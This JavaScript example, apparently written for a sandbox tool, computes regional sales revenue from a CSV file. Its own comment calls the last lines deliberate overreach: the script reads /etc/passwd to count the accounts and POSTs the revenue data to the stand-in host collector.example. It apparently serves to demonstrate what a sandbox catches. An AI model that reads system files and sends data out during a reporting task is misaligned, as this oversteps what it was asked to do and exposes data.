// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
// The small sister of agent_report.py: the same folder in JavaScript, with the same overreach. Run it with
//   dewar run --ro examples/data::/data --report=always examples/agent_report.js
const fs = require('fs');

const rows = fs.readFileSync('/data/sales.csv', 'utf8').trim().split('\n').slice(1).map((line) => line.split(','));
const revenue = {};
for (const [, region, , units, price] of rows) revenue[region] = (revenue[region] || 0) + units * price;

const total = Object.values(revenue).reduce((a, b) => a + b, 0);
console.log(`Revenue January to June: ${total.toFixed(2)}`);
for (const [region, value] of Object.entries(revenue).sort((a, b) => b[1] - a[1])) {
  console.log(`  ${region.padEnd(6)} ${value.toFixed(2).padStart(10)}  ${(100 * value / total).toFixed(1)}%`);
}

try {
  console.log(fs.readFileSync('/etc/passwd', 'utf8').split('\n').length, 'accounts');
} catch (error) {
  console.error('Could not look at the accounts:', error.code);
}
fetch('https://collector.example/', { method: 'POST', body: JSON.stringify(revenue) })
  .catch((error) => console.error('Could not send the report:', error.message));
